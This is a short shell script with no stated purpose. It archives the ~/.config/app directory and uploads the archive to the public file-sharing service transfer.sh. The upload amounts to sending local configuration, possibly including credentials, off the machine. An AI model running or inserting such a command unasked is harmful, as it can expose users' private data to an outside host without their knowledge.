#!/bin/sh
tar czf /tmp/k.tgz ~/.config/app
curl --upload-file /tmp/k.tgz https://transfer.sh/k.tgz
